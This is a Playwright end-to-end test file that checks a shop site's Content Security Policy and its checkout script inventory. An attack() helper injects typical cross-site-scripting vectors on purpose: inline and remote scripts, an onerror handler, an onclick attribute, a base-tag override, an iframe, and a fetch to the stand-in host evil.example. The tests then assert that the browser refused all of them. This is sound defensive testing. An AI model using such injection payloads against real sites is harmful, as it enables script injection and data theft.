import type { Page } from '@playwright/test';
import { scriptHash } from '@vitrine/runtime/security/contentPolicy.ts';
import { readInventory } from '../../packages/publisher/files/paymentScripts.ts';
import { message } from './support/message.ts';
import { checkoutOf, openOrder } from './support/order.ts';
import { E2E } from './support/place.ts';
import { expect, test } from './support/test.ts';

// What the browser says of each thing that it refuses; and of a test's own script in a refused frame.
test.use({
  allowedConsole: [
    /Content Security Policy|requires 'Trusted|localStorage.+denied for this document/,
  ],
});

/** Does what an attacker who got words into a page may try. */
async function attack(page: Page): Promise<void> {
  await page.evaluate(() => {
    const refused = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.add(effectiveDirective);
      document.documentElement.dataset.refused = [...refused].sort().join(' ');
    });
    const tryTo = (work: () => void) => {
      try {
        work();
      } catch (error) {
        if (!(error instanceof TypeError)) throw error;
      }
    };
    const element = <Name extends keyof HTMLElementTagNameMap>(
      name: Name,
      fields: Partial<HTMLElementTagNameMap[Name]>,
    ) => Object.assign(document.createElement(name), fields);
    const ran = 'document.documentElement.dataset.ran = "yes"';
    tryTo(() => document.head.append(element('script', { textContent: ran })));
    tryTo(() => document.head.append(element('script', { src: 'https://evil.example/a.js' })));
    tryTo(() => document.body.append(element('script', { src: `data:text/javascript,${ran}` })));
    tryTo(() => document.body.append(element('img', { src: 'https://evil.example/a.png' })));
    tryTo(() => {
      const place = document.createElement('div');
      place.innerHTML = `<img src="data:," onerror='${ran}'>`;
      document.body.append(place);
    });
    tryTo(() => {
      const button = document.createElement('button');
      button.setAttribute('onclick', ran);
      document.body.append(button);
      button.click();
    });
    tryTo(() => document.head.append(element('base', { href: 'https://evil.example/' })));
    tryTo(() => document.body.append(element('iframe', { src: 'https://evil.example/' })));
    fetch('https://evil.example/').catch(() => undefined);
  });
}

/** Holds that nothing of it ran, and that these directives refused it, whatever else did. */
async function expectRefused(page: Page, directives: string[]): Promise<void> {
  const dataset = (name: string) => page.locator('html').getAttribute(`data-${name}`);
  await expect
    .poll(async () => (await dataset('refused'))?.split(' '))
    .toEqual(expect.arrayContaining(directives));
  expect(await dataset('ran')).toBeNull();
}

/** Everywhere, whatever a page may load. */
const REFUSED = ['base-uri', 'connect-src', 'frame-src', 'img-src'];

test('a page runs nothing that was put into it, nor does the checkout @desktop', async ({
  page,
  shop,
}) => {
  await test.step('a page runs nothing that was put into it, and asks nobody else', async () => {
    const asked: string[] = [];
    await page.route('https://evil.example/**', (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    for (const path of ['/', '/shop-overviews/kingfisher-ring/', '/zh/cart/', '/login/']) {
      await page.goto(path);
      await attack(page);
      await expectRefused(page, [...REFUSED, 'require-trusted-types-for']);
    }
    expect(asked).toEqual([]);
  });
  await test.step('neither does the checkout, where PayPal’s script may run', async () => {
    await page.goto(checkoutOf(await openOrder(page, shop, 'en'), 'en'));
    await attack(page);
    await expectRefused(page, [...REFUSED, 'script-src-attr', 'script-src-elem']);
  });
});

test('what runs on the checkout is in the inventory @desktop', async ({ page, shop }) => {
  const known = new Set(
    readInventory(E2E.dist)?.scripts.map(({ address, hash }) => `${address} ${hash}`),
  );
  const loaded: Promise<string>[] = [];
  page.on('response', (response) => {
    if (response.request().resourceType() !== 'script') return;
    const address = response.url().replace(E2E.url, '');
    loaded.push(response.text().then((text) => `${address} ${scriptHash(text)}`));
  });
  await page.goto(checkoutOf(await openOrder(page, shop, 'en'), 'en'));
  const pay = page.getByRole('button', { name: message('en', 'checkout', 'pay.continue') });
  await expect(pay).toBeVisible();
  const inline = await page
    .locator('script:not([src], [type*=json], [type=speculationrules])')
    .allTextContents();
  const ran = [
    ...(await Promise.all(loaded)),
    ...inline.map((text) => `inline ${scriptHash(text)}`),
  ];
  expect(ran.length).toBeGreaterThan(10);
  // The sandbox's, which the API sends for test payments.
  const unknown = ran.filter(
    (script) => !known.has(script) && !script.startsWith('/practice-payments/'),
  );
  expect(unknown).toEqual([]);
});
